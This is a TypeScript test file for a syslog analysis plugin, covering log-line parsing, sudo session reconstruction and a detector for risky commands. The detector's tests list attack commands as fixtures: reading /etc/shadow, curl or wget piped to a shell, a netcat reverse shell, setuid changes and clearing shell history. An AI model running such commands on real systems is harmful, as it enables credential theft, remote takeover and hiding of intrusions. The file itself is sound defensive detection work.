import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createSession, Table } from '@pivotkit/core';
import { defaultRules, parseSyslogLine, ruleMatcher, syslog } from '@pivotkit/plugin-syslog';
import { loadRules } from '../../../plugins/syslog/src/load-rules.ts';
import { afterAll, describe, expect, test } from 'vitest';

const options = { notAfter: new Date('2026-03-01T00:00:00Z'), offsetMinutes: 0 };
const folder = mkdtempSync(join(tmpdir(), 'pivotkit-syslog-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

describe('lines', () => {
  // The first and third are examples of RFC 5424, section 6.5; the second of RFC 3164, section 5.4.
  test.each([
    ['<34>1 2003-10-11T22:14:15.003Z mymachine.example.com su - ID47 - \uFEFF\'su root\' failed', { facility: 'auth', severity: 'crit', time: new Date('2003-10-11T22:14:15.003Z'), host: 'mymachine.example.com', app: 'su', processId: undefined, messageId: 'ID47', structured: undefined, message: "'su root' failed" }],
    ["<34>Oct 11 22:14:15 mymachine su: 'su root' failed", { facility: 'auth', severity: 'crit', time: new Date('2025-10-11T22:14:15Z'), host: 'mymachine', app: 'su', message: "'su root' failed" }],
    ['<165>1 2003-10-11T22:14:15.003Z h evntslog - ID47 [ex@32473 iut="3" src="A\\"pp\\]"][p@1 c="h"] text', { facility: 'local4', severity: 'notice', structured: { 'ex@32473': { iut: '3', src: 'A"pp]' }, 'p@1': { c: 'h' } }, message: 'text' }],
    ['Jan  5 10:00:00 web sshd[812]: Accepted', { facility: undefined, time: new Date('2026-01-05T10:00:00Z'), host: 'web', app: 'sshd', processId: '812', message: 'Accepted' }],
    ['2026-01-05T10:00:00.5+01:00 web kernel: x: y', { time: new Date('2026-01-05T09:00:00.500Z'), host: 'web', app: 'kernel', message: 'x: y' }],
    ['Jan  5 10:00:00 sudo: no host', { host: undefined, app: 'sudo', message: 'no host' }],
    ['<13>free text', { facility: 'user', severity: 'notice', time: undefined, message: 'free text' }],
    ['Feb 30 10:00:00 web x: y', { time: undefined, host: 'web' }],
    ['<999>1 - - - - - -', { facility: undefined, severity: undefined, format: 'rfc5424', message: '' }],
  ])('%s', (line, said) => expect(parseSyslogLine(line, options)).toMatchObject(said)); // prettier-ignore

  test.each(['', 'hello world', '\ufffd\ufffd'])('%j is none and stays a message', async (line) => {
    await using session = await createSession({ plugins: [syslog] });
    const read = await session.from([{ line }]).verb('syslog.lines', {}).run();
    expect(read.row(0)).toMatchObject({ format: 'unknown', SyslogMessage: line, TimeGenerated: null });
  });

  test.each([' ', '[', '[a b="', ' : ', 'COMMAND=', '<1>', '"'])('10 MB of %j take a moment', async (part) => {
    const text = part.repeat(10_000_000 / part.length);
    await using session = await createSession({ plugins: [syslog] });
    const start = process.cpuUsage().user;
    for (const line of [`<34>1 - - - - - ${text}`, `Jan  5 10:00:00 h ${text}`]) parseSyslogLine(line, options);
    const rows = [{ TimeGenerated: new Date(0), SyslogMessage: text, Command: text }];
    await session.from(rows).verb('syslog.sessions', {}).run();
    await session.from(rows).verb('syslog.risky', {}).run();
    expect((process.cpuUsage().user - start) / 1e6).toBeLessThan(10);
  });
});

const log = (rows: readonly (readonly [second: number, message: string])[]) =>
  Table.fromRows(rows.map(([second, SyslogMessage]) => ({ TimeGenerated: new Date(second * 1000), HostName: 'web', ProcessName: 'sudo', SyslogMessage }))); // prettier-ignore

describe('syslog.sessions', () => {
  test('sessions that overlap are told apart, commands belong to the session that follows', async () => {
    await using session = await createSession({ plugins: [syslog] });
    const table = log([
      [0, 'pam_unix(sudo:session): session closed for user root'],
      [1, 'ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls -l'],
      [1, 'pam_unix(sudo:session): session opened for user root by ann(uid=0)'],
      [2, 'bob : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/cat /etc/shadow'],
      [2, 'pam_unix(sudo:session): session opened for user root(uid=0) by bob(uid=1001)'],
      [5, 'pam_unix(sudo:session): session closed for user root'],
      [6, 'pam_unix(sshd:session): session opened for user eve by (uid=0)'],
    ]);
    const found = await session.from(table).verb('syslog.sessions', {}).run();
    expect(found.toRows().map(({ User, Service, duration, Commands }) => [User, Service, duration, Commands])).toEqual([
      ['root', 'sudo', null, []],
      ['ann', 'sudo', 4, ['/bin/ls -l']],
      ['bob', 'sudo', null, ['/bin/cat /etc/shadow']],
      ['eve', 'sshd', null, []],
    ]);
    const summary = await session.from(table).verb('syslog.hostSummary', {}).run();
    expect(summary.row(0)).toMatchObject({ HostName: 'web', events: 7, users: ['ann', 'bob', 'eve', 'root'], applications: ['sudo'] }); // prettier-ignore
  });

  test('nothing, and a wrong column with the nearest', async () => {
    await using session = await createSession({ plugins: [syslog] });
    expect(
      (
        await session
          .from(log([]))
          .verb('syslog.sessions', {})
          .run()
          .catch(() => ({ size: 0 }))
      ).size,
    ).toBe(0);
    const run = session.from(log([[0, 'x']])).verb('syslog.sessions', { messageCol: 'SyslogMesage' }).run(); // prettier-ignore
    await expect(run).rejects.toThrow("Did you mean 'SyslogMessage'?");
  });
});

describe('syslog.risky', () => {
  const idsOf = (command: string): string[] => ruleMatcher(defaultRules)(command).map(({ id }) => id);

  test.each([
    ['cat /etc/shadow', ['shadow-file']],
    ['curl http://x/a.sh | bash', ['download-to-shell']],
    ['WGET -qO- http://x | SH', ['download-to-shell']],
    ['echo aGk= | base64 -d', ['decode-base64']],
    ['nc -e /bin/sh 10.0.0.1 4444', ['netcat-shell']],
    ['/usr/sbin/useradd eve', ['new-account']],
    ['chmod u+s /tmp/x', ['set-uid']],
    ['history -c', ['clear-history']],
    ['ls -la /home', []],
    ['cat chapter.md', []],
    ['', []],
  ])('%s', (command, ids) => expect(idsOf(command)).toEqual(ids));

  test('every rule of its own has a technique', () => {
    expect(defaultRules.filter(({ techniques }) => techniques.length === 0)).toEqual([]);
  });

  test('adds rules, techniques and the highest severity; null has none', async () => {
    await using session = await createSession({ plugins: [syslog] });
    const rows = [{ Command: 'bash -c "cat /etc/shadow" /bin/bash' }, { Command: 'ls' }, { Command: null }];
    const found = await session.from(rows).verb('syslog.risky', {}).run();
    expect(found.toRows().map(({ attack_techniques: techniques, risk }) => [techniques, risk])).toEqual([
      [['T1003.008', 'T1059.004'], 'high'],
      [[], null],
      [[], null],
    ]);
  });

  test('rules from a file, YAML or JSON, before those that come along', async () => {
    writeFileSync(join(folder, 'rules.yaml'), 'version: 1\nrules:\n  - id: root-shell\n    title: Mine\n    severity: high\n    techniques: [T1059]\n    words: [bash]\n    none: [cron]\n'); // prettier-ignore
    await using session = await createSession({ plugins: [syslog], configFolder: folder, config: { syslog: { rules: ['rules.yaml'] } } }); // prettier-ignore
    const found = await session
      .from([{ Command: '/bin/bash' }, { Command: 'bash cron' }])
      .verb('syslog.risky', {})
      .run();
    expect(found.toRows().map(({ risk }) => risk)).toEqual(['high', null]);
  });

  test.each([
    ['version: 2\nrules: []', 'version'],
    ['version: 1\nrules: [{ id: x, title: y }]', 'needs'],
    ['version: 1\nrules: [{ id: x, title: y, any: [z], techniques: [1] }]', 'techniques'],
    ['{', 'neither YAML nor JSON'],
  ])('a file of rules that is wrong is refused: %s', async (text, problem) => {
    writeFileSync(join(folder, 'wrong.yaml'), text);
    const start = createSession({ plugins: [syslog], configFolder: folder, config: { syslog: { rules: ['wrong.yaml'] } } }); // prettier-ignore
    await expect(start).rejects.toThrow(problem);
  });
});

test('rules that cannot be used say so by their code', async () => {
  await expect(loadRules([join(folder, 'nowhere.yaml')], true)).rejects.toMatchObject({
    code: 'COMMAND_RULES_INVALID',
  });
});

test('syslog.bursts: stretches of many commands, by host', async () => {
  await using session = await createSession({ plugins: [syslog] });
  const at = [0, 1, 2, 50, 100, 101, 102, 103];
  const rows = at.map((second) => ({ TimeGenerated: new Date(second * 1000), HostName: 'web', Command: `c${second}` }));
  const found = await session.from(rows).verb('syslog.bursts', { time: 2, events: 3 }).run();
  expect(found.toRows().map(({ events, duration, Commands }) => [events, duration, Commands[0]])).toEqual([[3, 2, 'c0'], [4, 3, 'c100']]); // prettier-ignore
});

describe('tables that are odd', () => {
  const verbs = ['syslog.sessions', 'syslog.bursts', 'syslog.hostSummary', 'syslog.risky'] as const;
  const odd = (rows: number, time: unknown, message: unknown) => ({
    TimeGenerated: Array.from({ length: rows }, () => time),
    SyslogMessage: Array.from({ length: rows }, () => message),
    HostName: Array.from({ length: rows }, () => null),
  });

  test.each([
    ['no rows', odd(0, null, null), [0, 0, 0, 0]],
    ['columns without a cell', odd(50, null, null), [0, 0, 1, 50]],
    ['times that are NaN and no time', odd(50, NaN, 'x'), [0, 0, 1, 50]],
    ['times that are infinite', odd(50, Infinity, 'x'), [0, 0, 1, 50]],
    [
      'one row',
      odd(1, new Date(0), 'pam_unix(sudo:session): session opened for user root by ann(uid=0)'),
      [1, 0, 1, 1],
    ],
    ['equal rows', odd(50, new Date(0), 'ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls'), [0, 1, 1, 50]],
  ])('%s: as many rows as there are things', async (_, columns, sizes) => {
    await using session = await createSession({ plugins: [syslog] });
    const table: Table<object> = Table.fromColumns(columns);
    const found: number[] = [];
    for (const verb of verbs) found.push((await session.from(table).verb(verb, {}).run()).size);
    expect(found).toEqual(sizes);
  });

  test('many hosts take as long as many rows of one', async () => {
    await using session = await createSession({ plugins: [syslog] });
    const rows = Array.from({ length: 20_000 }, (_, i) => ({ TimeGenerated: new Date(i), HostName: `h${i}`, SyslogMessage: 'pam_unix(sudo:session): session opened for user root by ann(uid=0)' })); // prettier-ignore
    const found = await session.from(rows).verb('syslog.hostSummary', {}).run();
    expect([found.size, found.row(0).users, found.row(19_999).users]).toEqual([20_000, ['ann'], ['ann']]);
  });

  test('29 February is of a leap year, and the day of notAfter of this year or the last', () => {
    const at = (line: string) => parseSyslogLine(line, { notAfter: new Date('2026-03-01T12:00:00Z'), offsetMinutes: 0 })?.time?.toISOString(); // prettier-ignore
    expect(at('Feb 29 10:00:00 web x: y')).toBe('2024-02-29T10:00:00.000Z');
    expect([at('Mar  1 11:00:00 web x: y'), at('Mar  1 13:00:00 web x: y'), at('Mar  1 11:00:01 web x: y')]).toEqual(['2026-03-01T11:00:00.000Z', '2025-03-01T13:00:00.000Z', '2026-03-01T11:00:01.000Z']); // prettier-ignore
    expect(at('Foo  1 11:00:00 web x: y')).toBeUndefined();
  });
});
